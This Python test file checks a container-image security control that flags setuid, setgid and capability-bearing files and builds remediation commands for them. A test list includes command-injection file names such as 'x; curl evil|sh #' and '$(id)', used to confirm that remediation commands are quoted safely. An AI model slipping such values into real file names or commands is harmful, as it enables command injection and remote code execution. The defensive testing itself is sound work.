"""Files that give their runner other rights fail 4.8; bits without effect are noted."""

import shlex
import struct

import pytest

from ocianalyze.controls.aspects.setid import files
from ocianalyze.controls.cis_docker.c4_08_setid import CONTROL, evaluate
from ocianalyze.model.finding import Status
from tests.images import File, Layer, directory, hardlink, image

ELF = b"\x7fELF"
GROUP = b"root:x:0:\nshadow:x:42:\ndocker:x:999:\napp:x:1000:\n"


def _capabilities(*bits: int, effective: bool = True, revision: int = 2) -> bytes:
    mask = sum(1 << bit for bit in bits)
    value = struct.pack("<IIIII", revision << 24 | effective, mask & 0xFFFFFFFF, 0, mask >> 32, 0)
    return value + (struct.pack("<I", 1000) if revision == 3 else b"")


def _file(mode: int, uid: int = 0, gid: int = 0, content: bytes = ELF) -> File:
    return File(content, mode=mode, uid=uid, gid=gid)


@pytest.mark.parametrize(
    ("file", "severity"),
    [
        pytest.param(_file(0o4755), "high", id="setuid-root"),
        pytest.param(_file(0o4711), "high", id="setuid-root-unreadable"),
        pytest.param(_file(0o6755), "high", id="both"),
        pytest.param(_file(0o4755, uid=1000), "medium", id="setuid-other"),
        pytest.param(_file(0o2755), "high", id="setgid-root"),
        pytest.param(_file(0o2755, gid=999), "high", id="setgid-docker"),
        pytest.param(_file(0o2755, gid=1000), "medium", id="setgid-other"),
        pytest.param(_file(0o2755, gid=42), "low", id="setgid-shadow"),
    ],
)
def test_set_id_files_fail(file: File, severity: str) -> None:
    verdict = CONTROL.evaluate(image({"etc/group": GROUP, "usr/bin/x": file}))
    assert (verdict.status, verdict.reason) == (Status.FAIL, "setid-files")
    assert [(e.path, e.severity) for e in verdict.evidence] == [("usr/bin/x", severity)]
    assert verdict.remediation == "RUN chmod a-s /usr/bin/x"


@pytest.mark.parametrize(
    ("file", "reason"),
    [
        (_file(0o4644), "not-executable"),
        (_file(0o2745), "mandatory-locking"),
        (_file(0o4755, content=b"#!/bin/sh\n"), "script"),
        (_file(0o2755, content=b"#!/usr/bin/python3\n"), "script"),
    ],
)
def test_bits_without_effect_are_only_noted(file: File, reason: str) -> None:
    verdict = CONTROL.evaluate(image({"usr/bin/x": file}))
    assert verdict.status is Status.PASS
    assert [(e.severity, reason in e.reason) for e in verdict.evidence] == [("info", True)]


def test_directories_and_plain_files_pass() -> None:
    verdict = CONTROL.evaluate(image({"var/mail": directory(0o2775), "bin/x": _file(0o755)}))
    assert (verdict.status, verdict.evidence) == (Status.PASS, ())


@pytest.mark.parametrize(
    ("upper", "status"),
    [
        ({"bin/.wh.su": b""}, Status.PASS),
        ({"bin/.wh..wh..opq": b""}, Status.PASS),
        ({"bin/su": _file(0o755)}, Status.PASS),
        ({"bin/su": _file(0o4755)}, Status.FAIL),
        ({"bin/other": _file(0o755)}, Status.FAIL),
    ],
)
def test_only_the_final_mode_counts(upper: Layer, status: Status) -> None:
    assert CONTROL.evaluate(image({"bin/su": _file(0o4755)}, upper)).status is status


def test_hard_links_are_one_file_with_many_names() -> None:
    link = File(kind="h", link="bin/su", mode=0o4755)
    lower: Layer = {"bin/su": _file(0o4755), "bin/b": link}
    verdict = CONTROL.evaluate(image(lower, {"bin/a": link}))
    assert len(verdict.evidence) == 1
    assert verdict.evidence[0].path == "bin/a"
    assert "also bin/b, bin/su" in verdict.evidence[0].detail
    assert verdict.summary == "1 set-id file"


@pytest.mark.parametrize(
    ("value", "status", "severity"),
    [
        pytest.param(_capabilities(21), Status.FAIL, "high", id="sys_admin"),
        pytest.param(_capabilities(39), Status.FAIL, "high", id="bpf-in-the-second-word"),
        pytest.param(_capabilities(7, revision=3), Status.FAIL, "high", id="revision-3"),
        pytest.param(_capabilities(7, effective=False), Status.FAIL, "high", id="permitted-only"),
        pytest.param(struct.pack("<III", 1 << 24, 1 << 7, 0), Status.FAIL, "high", id="revision-1"),
        pytest.param(_capabilities(18), Status.NEEDS_REVIEW, "low", id="sys_chroot"),
        pytest.param(_capabilities(23), Status.NEEDS_REVIEW, "low", id="sys_nice"),
        pytest.param(_capabilities(60), Status.NEEDS_REVIEW, "low", id="unknown-bit"),
        pytest.param(
            struct.pack("<IIIII", 2 << 24, 0, 1 << 21, 0, 0),
            Status.NEEDS_REVIEW,
            "low",
            id="inheritable-only",
        ),
        pytest.param(_capabilities(13), Status.NEEDS_REVIEW, "low", id="net_raw"),
        pytest.param(_capabilities(10, 13), Status.NEEDS_REVIEW, "low", id="net_bind-and-raw"),
        pytest.param(b"\1\2\3", Status.NEEDS_REVIEW, "low", id="unreadable"),
        pytest.param(_capabilities(10), Status.PASS, "info", id="net_bind_service"),
        pytest.param(_capabilities(), Status.PASS, "info", id="none"),
    ],
)
def test_capabilities_that_lead_to_root_fail(value: bytes, status: Status, severity: str) -> None:
    file = File(ELF, mode=0o755, xattrs={"security.capability": value})
    verdict = CONTROL.evaluate(image({"usr/bin/ping": file}))
    assert verdict.status is status
    assert [e.severity for e in verdict.evidence] == [severity]


def test_capabilities_are_named_as_getcap_names_them() -> None:
    file = File(ELF, mode=0o755, xattrs={"security.capability": _capabilities(6, 7)})
    verdict = CONTROL.evaluate(image({"usr/bin/x": file}))
    assert "cap_setgid,cap_setuid=ep" in verdict.evidence[0].detail
    assert verdict.remediation == "RUN setcap -r /usr/bin/x"


def test_other_attributes_do_not_matter() -> None:
    file = File(ELF, mode=0o755, xattrs={"user.comment": b"x"})
    assert CONTROL.evaluate(image({"usr/bin/x": file})).evidence == ()


def test_worst_file_comes_first_and_many_are_removed_at_once() -> None:
    layer: Layer = {f"bin/{x}": _file(0o4755, uid=1000) for x in "abc"}
    verdict = CONTROL.evaluate(image({**layer, "bin/z": _file(0o4755)}, config={"User": "app"}))
    assert [e.path for e in verdict.evidence] == ["bin/z", "bin/a", "bin/b", "bin/c"]
    assert verdict.summary == "4 set-id files"
    assert "find / -xdev -perm /6000" in verdict.remediation
    assert "no-new-privileges" in verdict.remediation


def test_windows_is_not_applicable() -> None:
    verdict = CONTROL.evaluate(image({}, os="windows"))
    assert (verdict.status, verdict.reason) == (Status.NOT_APPLICABLE, "windows-image")


HOSTILE = ["x; curl evil|sh #", "$(id)", "`id`", "a b", "it's", 'a"b', "-rf", "a\\"]
HIDDEN = ["x\nRUN id", "\u202ex", "\x1b[2Jx", "x" * 200]


def _capable(*bits: int) -> File:
    return File(ELF, mode=0o755, xattrs={"security.capability": _capabilities(*bits)})


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_name_is_one_word_of_the_remedy(name: str) -> None:
    setid = CONTROL.evaluate(image({f"bin/{name}": _file(0o4755)})).remediation
    assert shlex.split(setid) == ["RUN", "chmod", "a-s", f"/bin/{name}"]
    capable = CONTROL.evaluate(image({f"bin/{name}": _capable(21)})).remediation
    assert shlex.split(capable) == ["RUN", "setcap", "-r", f"/bin/{name}"]


@pytest.mark.parametrize("name", HIDDEN)
def test_name_that_cannot_be_shown_whole_is_left_out(name: str) -> None:
    setid = CONTROL.evaluate(image({f"bin/{name}": _file(0o4755)})).remediation
    assert setid == "RUN find / -xdev -perm /6000 -type f -exec chmod a-s {} +"
    capable = CONTROL.evaluate(image({f"bin/{name}": _capable(21)})).remediation
    assert capable.startswith("RUN find / -xdev -type f -exec setcap -r {} ")
    assert capable.endswith("(1 file with capabilities)")


@pytest.mark.parametrize(
    ("count", "remedy"),
    [
        (2, "RUN setcap -r /bin/0 && setcap -r /bin/1"),
        (3, "RUN setcap -r /bin/0 && setcap -r /bin/1 && setcap -r /bin/2"),
        (
            4,
            (
                r"RUN find / -xdev -type f -exec setcap -r {} \; 2>/dev/null "
                "(4 files with capabilities)"
            ),
        ),
    ],
)
def test_each_file_has_its_own_setcap(count: int, remedy: str) -> None:
    verdict = CONTROL.evaluate(image({f"bin/{n}": _capable(21) for n in range(count)}))
    assert verdict.remediation == remedy


def test_summary_tells_the_authors_files_from_those_of_the_base() -> None:
    rootfs = f"/bin/sh -c #(nop) ADD file:{'0' * 64} in / "
    base: Layer = {"etc/hostname": b"", **{f"bin/{n}": _file(0o4755) for n in range(9)}}
    own: Layer = {"app/a": _file(0o4755), "app/b": _file(0o4755), "app/c": _capable(21)}
    history = [rootfs, "RUN make # buildkit"]
    verdict = CONTROL.evaluate(image(base, own, history=history))
    assert verdict.summary == "11 set-id files (2 author), 1 with capabilities (1 author)"
    assert (len(verdict.summary) <= 60, verdict.origin) == (True, "author")
    verdict = CONTROL.evaluate(image(base, {"app/c": _capable(21)}, history=history))
    assert verdict.summary == "9 set-id files (base), 1 with capabilities (1 author)"
    verdict = CONTROL.evaluate(image(base, {"app/c": b""}, history=history))
    assert (verdict.summary, verdict.origin) == ("9 set-id files", "base")


@pytest.mark.parametrize(
    ("values", "reason", "summary"),
    [
        ([_capabilities(13)], "minor-capabilities", "1 file with minor capabilities"),
        ([_capabilities(13)] * 2, "minor-capabilities", "2 files with minor capabilities"),
        ([_capabilities(60)], "capability-unknown", "1 file with unknown capabilities"),
        ([_capabilities(10, 60)], "capability-unknown", "1 file with unknown capabilities"),
        (
            [_capabilities(60), _capabilities(13), b"junk"],
            "minor-capabilities",
            "1 file with minor capabilities, 1 unknown, 1 unreadable",
        ),
        ([b"junk"], "capability-unreadable", "capability unreadable: 1 file"),
        ([b"junk"] * 2, "capability-unreadable", "capability unreadable: 2 files"),
        (
            [_capabilities(13), b"junk", _capabilities(10)],
            "minor-capabilities",
            "1 file with minor capabilities, 1 unreadable",
        ),
    ],
)
def test_minor_capabilities_are_counted(values: list[bytes], reason: str, summary: str) -> None:
    layer: Layer = {
        f"bin/{n}": File(ELF, mode=0o755, xattrs={"security.capability": value})
        for n, value in enumerate(values)
    }
    verdict = CONTROL.evaluate(image(layer))
    assert (verdict.status, verdict.reason) == (Status.NEEDS_REVIEW, reason)
    assert verdict.summary == summary


@pytest.mark.parametrize(
    ("mode", "value", "severity"),
    [(0o4755, _capabilities(60), "high"), (0o755, _capabilities(21, 60), "high")],
    ids=["set-id", "like-root"],
)
def test_unknown_bits_make_nothing_harmless(mode: int, value: bytes, severity: str) -> None:
    file = File(ELF, mode=mode, xattrs={"security.capability": value})
    verdict = CONTROL.evaluate(image({"bin/x": file}))
    assert (verdict.status, verdict.evidence[0].severity) == (Status.FAIL, severity)


def test_every_name_of_a_file_must_be_allowed() -> None:
    layer: Layer = {"bin/su": _file(0o4755), "bin/other": hardlink("bin/su")}
    assert evaluate(image(layer), allow=("/bin/su",)).status is Status.FAIL
    assert evaluate(image(layer), allow=("/bin/*",)).status is Status.PASS


@pytest.mark.parametrize(
    ("file", "owner", "status"),
    [
        (File(ELF, mode=0o4755, uid=0, uname="app"), "app", Status.FAIL),
        (File(ELF, mode=0o4755, uid=0, uname="app"), "root", Status.PASS),
        (File(ELF, mode=0o4755, uid=0, uname="app"), "toor", Status.FAIL),
        (File(ELF, mode=0o4755, uid=7, uname="root"), "root", Status.FAIL),
        (File(ELF, mode=0o4755, uid=1000, uname="root"), "app", Status.PASS),
        (File(ELF, mode=0o4755, uid=7, uname="guest"), "guest", Status.PASS),
        (File(ELF, mode=0o4755, gid=7, gname="root"), "root:root", Status.FAIL),
    ],
    ids=[
        "root-as-app",
        "root",
        "root-as-another",
        "app-as-root",
        "by-passwd",
        "by-header",
        "group-as-root",
    ],
)
def test_a_header_cannot_give_a_file_another_owner(file: File, owner: str, status: Status) -> None:
    """Runtimes go by number, for which the image's own files have the names."""
    layer: Layer = {"etc/passwd": b"toor:x:0:0::/:\napp:x:1000:1000::/:\n", "bin/x": file}
    assert evaluate(image(layer), allow=(f"owner={owner}",)).status is status


def test_what_is_not_kept_one_by_one_is_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "_DETAILED", 5)
    layer: Layer = {f"bin/{n:03}": _file(0o4755, uid=1) for n in range(40)}
    worst: Layer = {"bin/worst": _file(0o4755), "bin/same": hardlink("bin/worst")}
    verdict = evaluate(image({**layer, **worst}))
    assert verdict.status is Status.FAIL
    assert [e.path for e in verdict.evidence[:2]] == ["bin/same", "bin/000"]
    assert verdict.evidence[-1].detail == "36 more set-id files in layer 0"
    assert verdict.summary == "5 set-id files, 36 more"
    assert evaluate(image(layer), allow=("/bin/00*",)).status is Status.FAIL


def test_more_files_without_effect_are_no_failure(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "_DETAILED", 2)
    layer: Layer = {f"bin/{n}": _file(0o4644) for n in range(9)}
    verdict = evaluate(image(layer))
    assert verdict.status is Status.PASS
    assert (verdict.evidence[-1].severity, verdict.evidence[-1].reason) == ("info", "more")
